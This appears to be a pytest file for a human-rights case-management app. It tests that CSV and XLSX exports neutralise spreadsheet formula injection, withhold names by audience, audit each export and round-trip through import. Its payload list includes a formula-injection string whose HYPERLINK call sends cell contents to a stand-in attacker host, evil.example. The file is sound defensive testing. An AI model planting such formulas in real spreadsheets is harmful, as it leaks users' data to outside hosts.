"""Exports for people: audience withholding in every column, formula-safe cells in CSV
and XLSX, atomic writes, an audit entry each, and export -> import round trips."""

from __future__ import annotations

import csv
import datetime as dt
import html
import os
import stat
import zipfile

import pytest

from accompdesk.domain.records import CSV_TYPES, Incident, Organisation, Person
from accompdesk.exchange import importer
from accompdesk.exchange.export import export_table
from accompdesk.vault.errors import PermissionDenied
from accompdesk.vault.keyslots import FAST_KDF
from accompdesk.vault.rows import canonical
from accompdesk.vault.store import Vault

from ..conftest import PASSPHRASE
from ..factories import fill_every_type
from .helpers import office, run

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "'=already quoted"]


def xlsx_parts(path, raw: bool = False) -> str:
    """Every part of the workbook as text, character references resolved (openpyxl
    writes "Á" as "&#193;", which a plain search would miss)."""
    with zipfile.ZipFile(path) as archive:
        parts = [archive.read(n).decode("utf-8", "replace") for n in archive.namelist()]
    return "\n".join(parts if raw else [html.unescape(p) for p in parts])


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.fixture
def risky(vault):
    ids = office(vault)
    for i, payload in enumerate(PAYLOADS):
        vault.incidents.add(Incident(summary=payload.strip() or "x", occurred_on=dt.date(2024, 1, 1 + i),
                                     kind="threat", place=payload.replace("\r", "").replace("\t", ""),
                                     description=payload, perpetrator_authority_id=ids["battalion"]))
    return ids


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted(vault, risky, tmp_path):
    path = tmp_path / "incidentes.csv"
    assert export_table(vault, "incidents", str(path), fmt="csv", audience="internal") == len(PAYLOADS)
    rows = read_csv(path)
    for row in rows:
        for cell in row:
            stripped = cell.lstrip(" \u00a0")
            assert stripped[:1] not in ("=", "+", "-", "@", "\t", "\r", "\x00", "＝"), cell
    descriptions = {r[rows[0].index("Description")] for r in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")" in descriptions
    assert "''=already quoted" in descriptions
    # Reading our own file back gives the texts exactly.
    other, _ = Vault.create(str(tmp_path / "b.vault"), "otra", PASSPHRASE, kdf=FAST_KDF)
    try:
        office(other)
        importer.import_file(other, "incidents", path.read_bytes(), "incidentes.csv")
        assert sorted(i.description for i in other.incidents.list()) == \
            sorted(i.description for i in vault.incidents.list())
    finally:
        other.close()


def test_xlsx_text_cells_are_strings_never_formulas(vault, risky, tmp_path):
    path = tmp_path / "incidentes.xlsx"
    export_table(vault, "incidents", str(path), fmt="xlsx", audience="internal", language="es")
    xml = xlsx_parts(path, raw=True)
    assert "<f>" not in xml and "<f " not in xml
    assert 'quotePrefix="1"' in xml
    import openpyxl

    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["ID", "Resumen", "Fecha"]
    described = {row[header.index("Descripción")].value: row[header.index("Descripción")]
                 for row in sheet.iter_rows(min_row=2)}
    for incident in vault.incidents.list():
        cell = described[incident.description]  # the text itself, no apostrophe added
        assert cell.data_type == "s"
        assert cell.quotePrefix or incident.description.lstrip(" '")[:1] not in "=+-@＝"
    dates = [row[header.index("Fecha")].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(d, dt.datetime) for d in dates)


def test_canonical_xlsx_is_formula_safe_too(capsys, vault, risky, vault_path, tmp_path):
    vault.close()
    path = tmp_path / "incidents.xlsx"
    code, _, err = run(capsys, "--vault", vault_path, "export", "incidents", "-o", path)
    assert code == 0, err
    xml = xlsx_parts(path, raw=True)
    assert "<f>" not in xml and 'quotePrefix="1"' in xml


@pytest.fixture
def sensitive(vault):
    ids = office(vault)
    diplomatic = vault.persons.add(Person(full_name="Mercedes Tunubalá", alias="Doña Meche",
                                          consent_level="diplomatic", kind="indigenous_leader", region="Cauca",
                                          contact="+57 311 111 1111", checkin_protocol="Llamar a las 7"))
    secret_org = vault.organisations.add(Organisation(name="Colectivo Tejiendo Memoria", consent_level="internal",
                                                      kind="victims_organisation", region="Nariño"))
    vault.persons.update(vault.persons.get(ids["ana"]))
    vault.incidents.add(Incident(
        summary="Amenaza contra Ana Pérez Quiñones y la Doña Meche",
        occurred_on=dt.date(2024, 2, 2), kind="threat", place="Toribío",
        description="La Profe (ANA PEREZ QUIÑONES) y Mercedes  Tunubalá recibieron un panfleto del "
                    "Colectivo Tejiendo Memoria. Luis Ángel Mina los acompañó.",
        affected_persons=[ids["ana"], diplomatic.id, ids["luis"]],
        affected_organisations=[secret_org.id, ids["org"]],
        perpetrator_authority_id=ids["battalion"]))
    return {**ids, "meche": diplomatic.id, "secret_org": secret_org.id}


WITHHELD_FOR_PUBLIC = ["Ana", "Quiñones", "Quinones", "Profe", "Mercedes", "Tunubalá", "Tunubala",
                       "Meche", "Tejiendo", "+57 311", "Llamar a las 7"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_public_export_names_no_one_below_public_in_any_column(vault, sensitive, tmp_path, fmt):
    for table in ("incidents", "persons", "organisations"):
        path = tmp_path / f"{table}.{fmt}"
        export_table(vault, table, str(path), fmt=fmt, audience="public", language="es")
        text = path.read_text("utf-8-sig") if fmt == "csv" else xlsx_parts(path)
        for word in WITHHELD_FOR_PUBLIC:
            assert word.lower() not in text.lower(), (table, word)
        assert "Luis Ángel Mina" in text or table == "organisations"
    rows = read_csv(tmp_path / "incidents.csv") if fmt == "csv" else None
    if rows:
        assert rows[0] == ["Audiencia: Público. Solo campos permitidos para esta audiencia; personas sin "
                           "consentimiento descritas, no nombradas."]
        header = rows[1]
        incident = rows[2]
        assert "ID" not in header  # internal ids stay inside the office
        affected = incident[header.index("Personas afectadas")]
        assert affected == "un líder comunitario en Cauca; un líder indígena en Cauca; Luis Ángel Mina"
        description = incident[header.index("Descripción")]
        assert description == ("Un líder comunitario en Cauca (un líder comunitario en Cauca) y un líder "
                               "indígena en Cauca recibieron un panfleto de una organización de víctimas "
                               "en Nariño. Luis Ángel Mina los acompañó.")
        # The article before a name goes with it: "la Doña Meche" -> "un líder indígena".
        assert incident[header.index("Resumen")] == ("Amenaza contra un líder comunitario en Cauca y un "
                                                     "líder indígena en Cauca")
        assert "Asociación Campesina del Valle" in incident[header.index("Organizaciones afectadas")]
        persons = read_csv(tmp_path / "persons.csv")[1:]
        # Contact details are internal: a public table has no such column at all.
        assert "Datos de contacto" not in persons[0] and "Notas" not in persons[0]


def test_diplomatic_export_names_diplomatic_consent_but_not_internal(vault, sensitive, tmp_path):
    path = tmp_path / "i.csv"
    export_table(vault, "incidents", str(path), fmt="csv", audience="diplomatic")
    text = path.read_text("utf-8-sig")
    assert "Mercedes Tunubalá" in text and "Doña Meche" in text
    for word in ("Ana", "Profe", "Tejiendo"):
        assert word not in text


def test_internal_export_names_everyone(vault, sensitive, tmp_path):
    path = tmp_path / "i.csv"
    export_table(vault, "incidents", str(path), fmt="csv", audience="internal")
    text = path.read_text("utf-8-sig")
    assert "Ana Pérez Quiñones" in text and "Colectivo Tejiendo Memoria" in text


def test_a_list_export_keeps_its_filters_and_columns_and_is_audited(vault, sensitive, tmp_path):
    vault.incidents.add(Incident(summary="Allanamiento", occurred_on=dt.date(2024, 5, 1), kind="raid"))
    path = tmp_path / "lista.xlsx"
    before = len(vault.audit_entries())
    count = export_table(vault, "incidents", str(path), fmt="xlsx", audience="public",
                         columns=["occurred_on", "summary", "kind", "updated_by"],
                         filters={"kind": "raid"}, language="en")
    assert count == 1
    import openpyxl
    rows = [[c.value for c in r] for r in openpyxl.load_workbook(path).active.iter_rows()]
    assert rows[0][0].startswith("Audience: Public.")
    # Who changed a record is staff bookkeeping: it does not reach a public table.
    assert rows[1] == ["Date", "Summary", "Kind"]
    assert rows[2][1:] == ["Allanamiento", "Raid"]
    entries = vault.audit_entries()
    assert len(entries) == before + 1
    assert entries[-1].action == "export" and "audience=public" in entries[-1].detail
    assert "format=xlsx" in entries[-1].detail and "filtered=yes" in entries[-1].detail
    assert "lista.xlsx" in entries[-1].detail
    # Written atomically: the file alone, private to its owner.
    assert sorted(os.listdir(tmp_path)) == sorted(["lista.xlsx", "office.vault", "office.vault.keys",
                                                   "office.vault-wal", "office.vault-shm",
                                                   "office.vault.lock", "office.vault.keys.lock"])
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


def test_roles_limit_the_audience(vault, vault_path, tmp_path):
    from accompdesk.vault import staff

    staff.add_staff(vault, "Lectora", "otra passphrase larga", "viewer", kdf=FAST_KDF)
    vault.close()
    with Vault.open(vault_path, passphrase="otra passphrase larga", user="Lectora") as viewer:
        with pytest.raises(PermissionDenied):
            export_table(viewer, "incidents", str(tmp_path / "x.csv"), audience="diplomatic")
        assert export_table(viewer, "incidents", str(tmp_path / "x.csv"), audience="public") == 0


def test_cli_export_for_an_audience(capsys, vault, sensitive, vault_path, tmp_path):
    vault.close()
    out = tmp_path / "incidentes.xlsx"
    code, _, err = run(capsys, "--vault", vault_path, "export", "incidents", "-o", out, "--audience", "public",
                       "--language", "es", "--columns", "occurred_on,summary,description")
    assert code == 0, err
    assert "public: names withheld below that audience" in err
    assert "Ana" not in xlsx_parts(out)
    code, _, err = run(capsys, "--vault", vault_path, "export", "incidents", "-o", tmp_path / "x.csv",
                       "--audience", "public", "--columns", "summary,nonsense")
    assert code == 2 and "no column called nonsense" in err
    code, _, err = run(capsys, "--vault", vault_path, "export", "incidents", "-o", "-", "--audience", "public")
    assert code == 2 and len(err.strip().splitlines()) == 1


def _comparable(record) -> dict:
    values = canonical(record)
    for name in ("created_at", "created_by", "updated_at", "updated_by"):
        values.pop(name)
    return values


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_round_trip_of_every_table_through_the_internal_export(vault, tmp_path, fmt):
    fill_every_type(vault)
    folder = tmp_path / "out"
    folder.mkdir()
    for table in CSV_TYPES:
        export_table(vault, table, str(folder / f"{table}.{fmt}"), fmt=fmt, audience="internal",
                     language="es" if fmt == "xlsx" else "en")
    other, _ = Vault.create(str(tmp_path / "other.vault"), "segunda", PASSPHRASE, kdf=FAST_KDF)
    try:
        for table in CSV_TYPES:  # dependency order
            data = (folder / f"{table}.{fmt}").read_bytes()
            result = importer.import_file(other, table, data, f"{table}.{fmt}")
            assert result.created == vault.repo(table).count(), table
        for table in CSV_TYPES:
            mine = sorted((_comparable(r) for r in vault.repo(table).list()), key=lambda v: v["id"])
            theirs = sorted((_comparable(r) for r in other.repo(table).list()), key=lambda v: v["id"])
            assert theirs == mine, table
    finally:
        other.close()
